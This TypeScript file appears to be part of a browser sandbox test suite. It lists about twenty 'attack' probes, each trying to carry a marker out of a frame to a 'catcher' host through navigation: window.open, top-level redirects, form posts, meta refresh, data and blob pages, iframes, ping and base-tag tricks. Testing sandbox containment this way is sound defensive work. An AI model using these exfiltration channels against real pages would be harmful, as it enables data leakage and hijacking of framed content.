/// Going somewhere else, or taking the page along: every way carries what the frame saw in its address.

import type { Probe } from "./types";

export const navigation: readonly Probe[] = [
  {
    name: "opens a window",
    seen: "tab",
    // WebDriver's scripts there are no gesture, and without one it opens nothing.
    tame: ["webkit"],
    attack: ({ catcher, mark }) => {
      window.open(`${catcher}/?${mark}`);
    },
  },
  {
    name: "opens an empty window and writes into it",
    seen: "tab",
    // WebDriver's scripts there are no gesture, and without one it opens nothing.
    tame: ["webkit"],
    attack: () => {
      window.open("about:blank")?.document.write("mine");
    },
  },
  {
    name: "clicks a link to a new tab",
    seen: "tab",
    // WebDriver's scripts there are no gesture, and without one it opens nothing.
    tame: ["webkit"],
    attack: ({ catcher, mark }) => {
      const link = document.createElement("a");
      link.href = `${catcher}/?${mark}`;
      link.target = "_blank";
      document.body.append(link);
      link.click();
    },
  },
  {
    name: "posts a form to a new tab",
    seen: "tab",
    // WebDriver's scripts there are no gesture, and without one it opens nothing.
    tame: ["webkit"],
    attack: ({ catcher, mark }) => {
      const form = document.createElement("form");
      form.action = `${catcher}/?${mark}`;
      form.method = "post";
      form.target = "_blank";
      document.body.append(form);
      form.submit();
    },
  },
  {
    name: "sends the page elsewhere by script",
    seen: "page",
    attack: ({ catcher, mark }) => {
      if (top !== null) {
        top.location.href = `${catcher}/?${mark}`;
      }
    },
  },
  {
    name: "sends the page elsewhere by replacing its address",
    seen: "page",
    attack: ({ catcher, mark }) => {
      parent.location.replace(`${catcher}/?${mark}`);
    },
  },
  {
    name: "sends the page elsewhere by a link",
    seen: "page",
    attack: ({ catcher, mark }) => {
      const link = document.createElement("a");
      link.href = `${catcher}/?${mark}`;
      link.target = "_top";
      document.body.append(link);
      link.click();
    },
  },
  {
    name: "sends the page elsewhere by a form",
    seen: "page",
    attack: ({ catcher, mark }) => {
      const form = document.createElement("form");
      form.action = `${catcher}/?${mark}`;
      form.target = "_top";
      document.body.append(form);
      form.submit();
    },
  },
  {
    name: "changes the page's fragment",
    seen: "page",
    attack: ({ mark }) => {
      if (top !== null) {
        top.location.hash = mark;
      }
    },
  },
  {
    name: "navigates itself with what it saw",
    seen: "arrival",
    attack: ({ catcher, mark }) => {
      location.href = `${catcher}/?leak=${mark}`;
    },
  },
  {
    name: "navigates itself by a meta refresh",
    seen: "arrival",
    attack: ({ catcher, mark }) => {
      const meta = document.createElement("meta");
      meta.httpEquiv = "refresh";
      meta.content = `0; url=${catcher}/?leak=${mark}`;
      document.head.append(meta);
    },
  },
  {
    name: "navigates itself to a data page that leaks",
    seen: "arrival",
    attack: ({ catcher, mark }) => {
      location.href = `data:text/html,<img src="${catcher}/?leak=${mark}">`;
    },
  },
  {
    name: "navigates itself to a page of its own making that leaks",
    seen: "arrival",
    attack: ({ catcher, mark }) => {
      const page = new Blob([`<img src="${catcher}/?leak=${mark}">`], { type: "text/html" });
      location.href = URL.createObjectURL(page);
    },
  },
  {
    name: "posts a form",
    seen: "arrival",
    attack: ({ catcher, mark }) => {
      const form = document.createElement("form");
      form.action = `${catcher}/`;
      form.method = "post";
      const field = document.createElement("input");
      field.name = "leak";
      field.value = mark;
      form.append(field);
      document.body.append(form);
      form.submit();
    },
  },
  {
    name: "posts a form into a named frame",
    seen: "arrival",
    attack: ({ catcher, mark }) => {
      const frame = document.createElement("iframe");
      frame.name = "inner";
      const form = document.createElement("form");
      form.action = `${catcher}/?${mark}`;
      form.method = "post";
      form.target = "inner";
      document.body.append(frame, form);
      form.submit();
    },
  },
  {
    name: "puts a frame inside",
    seen: "arrival",
    attack: ({ catcher, mark }) => {
      const frame = document.createElement("iframe");
      frame.src = `${catcher}/?${mark}`;
      document.body.append(frame);
    },
  },
  {
    name: "puts a frame inside that leaks from its own markup",
    seen: "arrival",
    attack: ({ catcher, mark }) => {
      const frame = document.createElement("iframe");
      frame.srcdoc = `<img src="${catcher}/?${mark}">`;
      document.body.append(frame);
    },
  },
  {
    name: "puts an object inside",
    seen: "arrival",
    attack: ({ catcher, mark }) => {
      const object = document.createElement("object");
      object.data = `${catcher}/x.svg?${mark}`;
      object.type = "image/svg+xml";
      document.body.append(object);
    },
  },
  {
    name: "puts an embed inside",
    seen: "arrival",
    attack: ({ catcher, mark }) => {
      const embed = document.createElement("embed");
      embed.src = `${catcher}/x.svg?${mark}`;
      embed.type = "image/svg+xml";
      document.body.append(embed);
    },
  },
  {
    name: "moves the base of its relative addresses",
    seen: "arrival",
    attack: ({ catcher, mark }) => {
      const base = document.createElement("base");
      base.href = `${catcher}/`;
      document.head.append(base);
      const image = new Image();
      image.src = `relative?${mark}`;
      document.body.append(image);
    },
  },
  {
    name: "is told of a click on a link by a ping",
    seen: "arrival",
    // Off by default in Firefox.
    tame: ["firefox"],
    attack: ({ catcher, mark }) => {
      const link = document.createElement("a");
      link.href = "#here";
      link.setAttribute("ping", `${catcher}/?${mark}`);
      document.body.append(link);
      link.click();
    },
  },
  {
    name: "sends a sibling frame elsewhere",
    seen: "arrival",
    attack: ({ catcher, mark }) => {
      for (let index = 0; index < parent.frames.length; index += 1) {
        const other = parent.frames[index];
        if (other !== undefined && other !== window) {
          other.location.href = `${catcher}/?${mark}`;
        }
      }
    },
  },
];
